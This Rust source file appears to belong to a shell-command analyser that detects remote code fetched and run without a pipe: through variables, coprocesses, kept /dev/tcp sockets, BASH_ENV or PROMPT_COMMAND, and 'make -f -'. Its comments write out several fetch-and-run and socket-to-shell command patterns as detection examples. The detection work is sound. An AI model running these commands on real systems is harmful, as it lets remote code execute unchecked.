//! Is code from elsewhere run without a pipe: from a variable, a coprocess, an address?

use std::collections::{BTreeSet, HashMap};

use tenterhook_shell::{Target, Via, WordKind};

use super::super::hosts;
use super::super::view::View;
use super::table::FETCHING;
use super::{Kinds, brings, inside, is_language, is_shell, runs_input, takes_code};

impl Kinds {
    /// `x=$(curl ...); bash -c "$x"`: what was fetched stands in a variable.
    pub(super) fn variables(&mut self, views: &[View<'_>]) {
        let mut fetched: HashMap<&str, BTreeSet<&'static str>> = HashMap::new();
        for view in views {
            let words = view.command.words.iter().skip(1);
            let code = words.filter(|_| takes_code(view) || is_language(&view.name));
            for word in code.filter(|word| word.kind == WordKind::Expansion && !fetched.is_empty())
            {
                for part in word.source.split('$').skip(1) {
                    let part = part.trim_start_matches('{');
                    let end = part.find(|c: char| c != '_' && !c.is_ascii_alphanumeric());
                    let name = part.get(..end.unwrap_or(part.len())).unwrap_or_default();
                    self.0.extend(fetched.get(name).into_iter().flatten());
                }
            }
            let substitutes = |source: &str| source.contains("$(") || source.contains('`');
            for assignment in view
                .command
                .assignments
                .iter()
                .filter(|assignment| substitutes(&assignment.value.source))
            {
                if view.meter.read(4 * assignment.value.source.len()) {
                    let brought = inside(&assignment.value.source, view.meter);
                    fetched.entry(assignment.name.as_str()).or_default().extend(brought);
                }
            }
        }
    }

    /// `exec 5<>/dev/tcp/host/99; cat <&5 | sh`: an end of a connection that the line keeps, and a shell that is fed.
    fn kept_socket(&mut self, views: &[View<'_>]) {
        let keeps = |view: &View<'_>| {
            let sockets = view
                .redirects
                .iter()
                .filter(|(_, file)| file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/"));
            view.command.program() == Some("exec") && sockets.count() > 0
        };
        let is_fed = |view: &View<'_>| {
            let duplicates = |redirect: &tenterhook_shell::Redirect| redirect.operator == "<&";
            runs_input(view) && (view.feeds() || view.command.redirects.iter().any(duplicates))
        };
        if views.iter().any(keeps) && views.iter().any(is_fed) {
            self.add("downloaded");
        }
    }

    /// `coproc curl ...; bash <&${COPROC[0]}`, and `go run https://...`: code that is fetched and run without a pipe.
    pub(super) fn direct(&mut self, views: &[View<'_>]) {
        let coprocess = |view: &View<'_>| view.command.via.contains(&Via::Wrapper("coproc"));
        let fed = |view: &View<'_>| {
            view.command.redirects.iter().any(|redirect| match &redirect.target {
                Target::Word(word) => {
                    redirect.operator.starts_with('<') && word.source.contains("COPROC")
                }
                Target::HereDocument { .. } | Target::Closed => false,
            })
        };
        let runs =
            views.iter().any(|view| (is_shell(&view.name) || is_language(&view.name)) && fed(view));
        if runs && views.iter().any(|view| coprocess(view) && brings(view) == Some("downloaded")) {
            self.add("downloaded");
        }
        self.kept_socket(views);
        for view in views {
            // `BASH_ENV=<(curl ...) bash`
            let started = view
                .command
                .assignments
                .iter()
                .filter(|assignment| STARTED.contains(&assignment.name.as_str()));
            started.for_each(|assignment| self.add_inside(&assignment.value.source, view.meter));
            let operands = view.operands(&[]);
            let mut operands = operands.iter().copied();
            let verb = FETCHING.iter().find(|(name, _)| *name == view.name).map(|(_, verb)| *verb);
            let fetches = verb.is_some_and(|verb| verb.is_empty() || operands.next() == Some(verb));
            if fetches && operands.next().is_some_and(is_address) {
                self.add("downloaded");
            }
        }
    }
}

/// Variables that name what a shell runs when it starts or prompts.
const STARTED: &[&str] = &["BASH_ENV", "ENV", "PROMPT_COMMAND"];

/// Whether a word is an address, and not code in which one stands: `node -e "fetch('http://localhost/')"` runs no answer.
fn is_address(word: &str) -> bool {
    let scheme = word.split("://").next().unwrap_or_default();
    scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
        && hosts::of_address(word).is_some()
}

/// Options of `make` that name its recipes.
const RECIPES: &[&str] = &["-f", "--file", "--makefile"];

/// Whether `make` finds its recipes on its input: `make -f -`.
pub(super) fn makes_input(view: &View<'_>) -> bool {
    // The reader may have lost a dash behind the option, and without one nothing is made.
    let bare = view.args.last().is_some_and(|arg| RECIPES.contains(&arg.as_str()));
    bare || view.values(RECIPES).iter().any(|text| ["-", "/dev/stdin"].contains(text))
}
